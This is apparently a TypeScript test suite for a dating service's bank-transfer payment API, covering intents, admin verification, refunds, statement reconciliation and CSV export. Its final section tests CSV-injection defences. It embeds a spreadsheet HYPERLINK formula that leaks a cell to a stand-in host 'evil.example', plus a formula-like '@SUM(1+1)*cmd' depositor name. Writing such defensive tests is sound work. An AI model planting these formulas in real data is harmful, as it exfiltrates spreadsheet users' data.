import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, it } from 'node:test'
import { eq } from 'drizzle-orm'
import type { FastifyInstance } from 'fastify'
import iconv from 'iconv-lite'
import { createTestContext, type SignedIn, signIn, type TestContext } from '../../../test/helpers/context.js'
import { acceptConsents, createPerson, like, recommend } from '../../../test/helpers/factories.js'
import { adminActions, matches, notifications, payments } from '../../core/db/schema.js'
import { weekOf } from '../../core/time.js'

const DAY = 24 * 3600_000
let ctx: TestContext
let admin: SignedIn
let minsu: SignedIn
let jieun: SignedIn
let outsider: SignedIn
let matchId: string
before(async () => {
  ctx = await createTestContext({
    ADMIN_KAKAO_IDS: '1',
    PAYMENT_AMOUNT_KRW: '33000',
    PAYMENT_EXPIRE_DAYS: '3',
  })
})
after(() => ctx.close())
beforeEach(async () => {
  await ctx.reset()
  ctx.clock.set('2026-11-26T05:00:00Z')
  const week = weekOf(ctx.clock.now())
  admin = await signIn(ctx.app, '1')
  minsu = await createPerson(ctx.app, { kakaoId: '100', gender: 'M', birthYear: 1994 })
  jieun = await createPerson(ctx.app, { kakaoId: '200', gender: 'F', birthYear: 1996 })
  outsider = await signIn(ctx.app, '999')
  await acceptConsents(ctx.app, outsider)
  await recommend(ctx.database, minsu, jieun, week)
  await recommend(ctx.database, jieun, minsu, week)
  await like(ctx.app, minsu, jieun, week)
  matchId = (await like(ctx.app, jieun, minsu, week)).json().matchId
})

const call = (
  app: FastifyInstance,
  who: SignedIn | null,
  method: 'GET' | 'POST',
  url: string,
  payload?: unknown,
) =>
  app.inject({
    method,
    url,
    headers: who ? who.headers : {},
    ...(payload === undefined ? {} : { payload: payload as object }),
  })
const intent = (who: SignedIn, id = matchId) =>
  call(ctx.app, who, 'POST', '/payments/intent', { matchId: id })
const audit = async (action: string) =>
  (await ctx.database.db.select().from(adminActions)).filter((a) => a.action === action)
const matchStatus = async () =>
  (await ctx.database.db.select().from(matches).where(eq(matches.id, matchId)))[0]?.status

describe('POST /payments/intent', () => {
  it('creates the payment once, the same for both people, with a code to put in the depositor name', async () => {
    const res = await intent(minsu)
    assert.equal(res.statusCode, 200)
    const p = res.json()
    assert.equal(p.matchId, matchId)
    assert.equal(p.method, 'transfer')
    assert.equal(p.amount, 33000)
    assert.equal(p.status, 'pending')
    assert.match(p.code, /^KM[2-9A-HJKMNP-Z]{6}$/)
    assert.equal(p.expiresAt, new Date(ctx.clock.now().getTime() + 3 * DAY).toISOString())
    assert.deepEqual(p.bank, { name: '샘플은행', account: '000-0000-0000-00', holder: '(주)쉿매치' })
    assert.deepEqual((await intent(jieun)).json(), p)
    assert.equal((await ctx.database.db.select().from(payments)).length, 1)
  })

  it('answers 404 to others, 409 for a closed or active match, 400 for a bad id', async () => {
    assert.equal((await intent(outsider)).statusCode, 404)
    assert.equal((await intent(minsu, '00000000-0000-4000-8000-000000000000')).statusCode, 404)
    assert.equal((await call(ctx.app, minsu, 'POST', '/payments/intent', { matchId: 'x' })).statusCode, 400)
    for (const status of ['active', 'closed'] as const) {
      await ctx.database.db.update(matches).set({ status }).where(eq(matches.id, matchId))
      const res = await intent(minsu)
      assert.equal(res.statusCode, 409)
      assert.equal(res.json().error.code, 'MATCH_NOT_PENDING')
    }
  })

  it('gives 20 concurrent calls one payment and one code', async () => {
    const results = await Promise.all(Array.from({ length: 20 }, (_, i) => intent(i % 2 ? minsu : jieun)))
    assert.ok(results.every((r) => r.statusCode === 200))
    assert.equal(new Set(results.map((r) => r.json().code)).size, 1)
    assert.equal((await ctx.database.db.select().from(payments)).length, 1)
  })

  it('lets an unpaid intent expire, keeps it, and makes a new one', async () => {
    const first = (await intent(minsu)).json()
    ctx.clock.advance(3 * DAY + 1000)
    const seen = await call(ctx.app, minsu, 'GET', `/payments/${first.id}`)
    assert.equal(seen.json().status, 'expired')
    const second = (await intent(jieun)).json()
    assert.notEqual(second.id, first.id)
    assert.equal(second.status, 'pending')
    const rows = await ctx.database.db.select().from(payments)
    assert.deepEqual(rows.map((r) => r.status).sort(), ['expired', 'pending'])
  })
})

describe('GET /payments/:paymentId', () => {
  it('is for the two people of the match only', async () => {
    const p = (await intent(minsu)).json()
    assert.equal((await call(ctx.app, jieun, 'GET', `/payments/${p.id}`)).json().code, p.code)
    const res = await call(ctx.app, outsider, 'GET', `/payments/${p.id}`)
    assert.equal(res.statusCode, 404)
    assert.equal(res.json().error.code, 'PAYMENT_NOT_FOUND')
  })
})

describe('admin verification and activation', () => {
  it('verifies once, audited in the same change; a second verification is 409 with no second audit row', async () => {
    const p = (await intent(minsu)).json()
    const res = await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {
      depositorName: '김민수',
      memo: '국민',
    })
    assert.equal(res.statusCode, 200)
    const [row] = await ctx.database.db.select().from(payments)
    assert.equal(row?.status, 'verified')
    assert.equal(row?.depositorName, '김민수')
    assert.equal(row?.memo, '국민')
    assert.ok(row?.verifiedAt)
    assert.equal((await audit('payment.verify')).length, 1)
    const again = await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {})
    assert.equal(again.statusCode, 409)
    assert.equal(again.json().error.code, 'PAYMENT_ALREADY_VERIFIED')
    assert.equal((await audit('payment.verify')).length, 1)
    assert.equal(await matchStatus(), 'pending', 'activation is a separate step by default')
  })

  it('activates only with a verified payment, or when forced with a reason', async () => {
    const activate = (body: object) =>
      call(ctx.app, admin, 'POST', `/admin/matches/${matchId}/activate`, body)
    const refused = await activate({})
    assert.equal(refused.statusCode, 409)
    assert.equal(refused.json().error.code, 'PAYMENT_NOT_VERIFIED')
    assert.equal((await activate({ force: true })).statusCode, 400)
    const forced = await activate({ force: true, reason: '현장 결제 확인' })
    assert.equal(forced.statusCode, 200)
    assert.equal(await matchStatus(), 'active')
    const [entry] = await audit('match.activate')
    assert.deepEqual(entry?.detail, { paid: false, force: true, reason: '현장 결제 확인' })
    assert.equal((await activate({})).json().error.code, 'MATCH_NOT_PENDING')
  })

  it('activates after verification', async () => {
    const p = (await intent(minsu)).json()
    await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {})
    assert.equal(
      (await call(ctx.app, admin, 'POST', `/admin/matches/${matchId}/activate`, {})).statusCode,
      200,
    )
    assert.equal(await matchStatus(), 'active')
    assert.equal((await intent(minsu)).statusCode, 409, 'nothing to pay on an active match')
    // Both are told of the payment and the activation; only she of the intent he asked for.
    const told = async (who: SignedIn) =>
      (await ctx.database.db.select().from(notifications).where(eq(notifications.userId, who.userId)))
        .filter((n) => n.type.startsWith('payment.') || n.type === 'match.activated')
        .map((n) => [n.type, n.data])
    assert.deepEqual(await told(minsu), [
      ['payment.verified', { matchId, paymentId: p.id }],
      ['match.activated', { matchId }],
    ])
    assert.deepEqual(await told(jieun), [
      ['payment.created', { matchId, paymentId: p.id }],
      ['payment.verified', { matchId, paymentId: p.id }],
      ['match.activated', { matchId }],
    ])
  })

  it('activates on verification with AUTO_ACTIVATE_ON_VERIFY', async () => {
    const auto = await ctx.build({ ADMIN_KAKAO_IDS: '1', AUTO_ACTIVATE_ON_VERIFY: 'true' })
    const p = (await intent(minsu)).json()
    assert.equal((await call(auto, admin, 'POST', `/admin/payments/${p.id}/verify`, {})).statusCode, 200)
    assert.equal(await matchStatus(), 'active')
    assert.equal((await audit('match.activate')).length, 1)
    const activated = await ctx.database.db
      .select()
      .from(notifications)
      .where(eq(notifications.type, 'match.activated'))
    assert.deepEqual(activated.map((n) => n.userId).sort(), [minsu.userId, jieun.userId].sort())
  })
})

describe('refunds', () => {
  it('owes back a verified payment when the match is closed before activation, and records the refund', async () => {
    const p = (await intent(minsu)).json()
    await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {})
    await call(ctx.app, jieun, 'POST', `/matches/${matchId}/close`)
    const listed = (await call(ctx.app, admin, 'GET', '/admin/payments?status=refund_due')).json()
    assert.deepEqual(
      listed.items.map((i: { id: string }) => i.id),
      [p.id],
    )
    assert.equal((await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {})).statusCode, 409)
    const res = await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/refund`, { reason: '매칭 취소' })
    assert.equal(res.statusCode, 200)
    const [row] = await ctx.database.db.select().from(payments)
    assert.equal(row?.status, 'refunded')
    assert.ok(row?.refundedAt)
    assert.equal((await audit('payment.refund')).length, 1)
    assert.equal(
      (await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/refund`, { reason: 'x' })).statusCode,
      409,
    )
  })

  it('refuses to refund an unpaid intent or without a reason', async () => {
    const p = (await intent(minsu)).json()
    assert.equal(
      (await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/refund`, { reason: 'x' })).statusCode,
      409,
    )
    assert.equal((await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/refund`, {})).statusCode, 400)
  })
})

describe('GET /admin/payments', () => {
  it('filters by status, searches by code or depositor name, and pages', async () => {
    const p = (await intent(minsu)).json()
    const list = async (query: string) =>
      (await call(ctx.app, admin, 'GET', `/admin/payments${query}`)).json()
    assert.equal((await list('?status=pending')).total, 1)
    assert.equal((await list('?status=verified')).total, 0)
    assert.equal((await list(`?query=${p.code.slice(2, 6).toLowerCase()}`)).total, 1)
    await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, { depositorName: '김민수' })
    assert.equal((await list(`?query=${encodeURIComponent('민수')}`)).total, 1)
    assert.equal((await list('?query=%25')).total, 0, 'a % typed by the operator is not a wildcard')
    const page = await list('?page=2&pageSize=1')
    assert.deepEqual([page.items.length, page.page, page.pageSize, page.total], [0, 2, 1, 1])
    assert.equal((await call(ctx.app, admin, 'GET', '/admin/payments?pageSize=101')).statusCode, 400)
  })
})

describe('POST /admin/payments/reconcile', () => {
  const statement = (code: string, amount = '33,000') =>
    `거래일시,적요,입금액,출금액\n2026.11.26 15:02:11,홍길동 ${code.slice(0, 4)}-${code.slice(4)},"${amount}",0\n` +
    '2026.11.26 16:00,김철수,"10,000",0\n'
  const post = (body: string | Buffer, query = '', contentType = 'text/csv') =>
    ctx.app.inject({
      method: 'POST',
      url: `/admin/payments/reconcile${query}`,
      headers: { ...admin.headers, 'content-type': contentType },
      payload: body,
    })

  it('reports each line without changing anything, then applies the matches with apply=true', async () => {
    const p = (await intent(minsu)).json()
    const dry = await post(statement(p.code))
    assert.equal(dry.statusCode, 200, dry.body)
    assert.deepEqual(
      dry.json().lines.map((l: { status: string; paymentId?: string }) => [l.status, l.paymentId]),
      [
        ['matched', p.id],
        ['unmatched', undefined],
      ],
    )
    assert.equal(dry.json().applied, 0)
    assert.equal(dry.json().lines[0].date, '2026-11-26T06:02:11.000Z')
    assert.equal((await ctx.database.db.select().from(payments))[0]?.status, 'pending')

    const applied = await post(statement(p.code), '?apply=true')
    assert.equal(applied.json().applied, 1)
    const [row] = await ctx.database.db.select().from(payments)
    assert.equal(row?.status, 'verified')
    assert.match(row?.depositorName ?? '', /홍길동/)
    const [entry] = await audit('payment.verify')
    assert.equal((entry?.detail as { source?: string } | undefined)?.source, 'statement')
    const afterwards = await post(statement(p.code))
    assert.equal(afterwards.json().lines[0].status, 'ambiguous', 'already verified')
  })

  it('reads CP949 and multipart uploads, and flags a wrong amount', async () => {
    const p = (await intent(minsu)).json()
    const cp949 = await post(iconv.encode(statement(p.code, '30,000'), 'cp949'))
    assert.equal(cp949.statusCode, 200)
    assert.equal(cp949.json().lines[0].status, 'ambiguous')
    assert.match(cp949.json().lines[0].reason, /expected 33000/)
    assert.match(cp949.json().lines[0].depositor, /홍길동/)

    const boundary = '----shh'
    const body = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="statement.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      iconv.encode(statement(p.code), 'cp949'),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ])
    const upload = await post(body, '', `multipart/form-data; boundary=${boundary}`)
    assert.equal(upload.statusCode, 200, upload.body)
    assert.equal(upload.json().lines[0].status, 'matched')
  })

  it('answers 400 naming the line of a malformed statement, and changes nothing', async () => {
    const p = (await intent(minsu)).json()
    const res = await post(
      `거래일시,적요,입금액\n2026-11-26 10:00,${p.code},"33,000"\n어제,x,1\n`,
      '?apply=true',
    )
    assert.equal(res.statusCode, 400)
    assert.equal(res.json().error.code, 'INVALID_STATEMENT')
    assert.match(res.json().error.message, /line 3/)
    assert.equal((await ctx.database.db.select().from(payments))[0]?.status, 'pending')
    const empty = await post('')
    assert.equal(empty.statusCode, 400)
  })

  it('answers 400 INVALID_STATEMENT to a truncated or malformed multipart upload, and changes nothing', async () => {
    const p = (await intent(minsu)).json()
    const boundary = '----shh'
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="statement.csv"\r\nContent-Type: text/csv\r\n\r\n`
    const whole = `${head}${statement(p.code)}\r\n--${boundary}--\r\n`
    const uploads = {
      'cut in the middle of the file': whole.slice(0, head.length + 40),
      'cut in the middle of the part headers': whole.slice(0, 30),
      'no closing boundary': `${head}${statement(p.code)}`,
      'another boundary than announced': whole.replaceAll(boundary, '----other'),
    }
    for (const [what, body] of Object.entries(uploads)) {
      const res = await post(body, '?apply=true', `multipart/form-data; boundary=${boundary}`)
      assert.equal(res.statusCode, 400, `${what}: ${res.body}`)
      assert.match(res.json().error.code, /^(INVALID_STATEMENT|STATEMENT_REQUIRED)$/, what)
    }
    const truncated = await post(
      uploads['cut in the middle of the file'],
      '',
      `multipart/form-data; boundary=${boundary}`,
    )
    assert.equal(truncated.json().error.code, 'INVALID_STATEMENT')
    assert.equal((await ctx.database.db.select().from(payments))[0]?.status, 'pending')
  })

  it('stops reading a statement at 10,000 lines instead of parsing it whole first', async () => {
    const line = '2026-11-26 10:00,김철수,1000\n'
    // The file ends in a quoted field that never closes: only a parser that reads to the end sees it.
    const huge = `거래일시,적요,입금액\n${line.repeat(60_000)}2026-11-26 10:00,"unclosed,1000\n`
    const res = await post(huge)
    assert.equal(res.statusCode, 400)
    assert.equal(res.json().error.code, 'INVALID_STATEMENT')
    assert.match(res.json().error.message, /At most 10,000 lines/)
    const atLimit = await post(`거래일시,적요,입금액\n${line.repeat(10_000)}`)
    assert.equal(atLimit.statusCode, 200)
    assert.equal(atLimit.json().lines.length, 10_000)
  })

  it('refuses a depositor name with control characters, naming the line', async () => {
    const p = (await intent(minsu)).json()
    const res = await post(
      `거래일시,적요,입금액\n2026-11-26 10:00,홍길동\u0000${p.code},"33,000"\n`,
      '?apply=true',
    )
    assert.equal(res.statusCode, 400, res.body)
    assert.equal(res.json().error.code, 'INVALID_STATEMENT')
    assert.match(res.json().error.message, /line 2/)
    assert.equal((await ctx.database.db.select().from(payments))[0]?.status, 'pending')
  })
})

describe('text operators paste into a spreadsheet (CSV injection)', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"입금확인")'

  it('keeps a formula-like depositor name as text in every admin answer, and as sent in the database', async () => {
    const p = (await intent(minsu)).json()
    const csvStatement = `거래일시,적요,입금액\n2026-11-26 10:00,"${FORMULA.replaceAll('"', '""')} ${p.code}","33,000"\n`
    const post = (query: string) =>
      ctx.app.inject({
        method: 'POST',
        url: `/admin/payments/reconcile${query}`,
        headers: { ...admin.headers, 'content-type': 'text/csv' },
        payload: csvStatement,
      })
    const dry = await post('')
    assert.equal(dry.statusCode, 200, dry.body)
    assert.equal(dry.json().lines[0].depositor, `'${FORMULA} ${p.code}`)
    assert.equal((await post('?apply=true')).json().applied, 1)

    const listed = (await call(ctx.app, admin, 'GET', '/admin/payments')).json().items[0]
    assert.equal(listed.depositorName, `'${FORMULA} ${p.code}`)
    const log = (await call(ctx.app, admin, 'GET', '/admin/actions')).json().items
    const verify = log.find((a: { action: string }) => a.action === 'payment.verify')
    assert.equal(verify.detail.depositorName, `'${FORMULA} ${p.code}`)
    // The data itself is kept as it came; only what operators read is defused.
    const [row] = await ctx.database.db.select().from(payments)
    assert.equal(row?.depositorName, `${FORMULA} ${p.code}`)
    assert.equal(
      (await call(ctx.app, minsu, 'GET', `/payments/${p.id}`)).json().depositorName,
      `${FORMULA} ${p.code}`,
    )
  })

  it('exports payments as CSV whose cells never start a formula', async () => {
    const p = (await intent(minsu)).json()
    const verified = await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {
      depositorName: '@SUM(1+1)*cmd',
      memo: '-2+3 확인, "따옴표"',
    })
    assert.equal(verified.statusCode, 200, verified.body)
    const res = await call(ctx.app, admin, 'GET', '/admin/payments/export?status=verified')
    assert.equal(res.statusCode, 200, res.body)
    assert.match(res.headers['content-type'] as string, /^text\/csv/)
    assert.match(res.headers['content-disposition'] as string, /attachment/)
    const [header, line, end] = res.body.replace(/^\uFEFF/, '').split('\r\n')
    assert.equal(header?.split(',')[5], 'depositorName')
    assert.ok(line?.includes(`,'@SUM(1+1)*cmd,"'-2+3 확인, ""따옴표""",`), line)
    assert.equal(end, '')
    assert.equal((await call(ctx.app, minsu, 'GET', '/admin/payments/export')).statusCode, 403)
  })
})
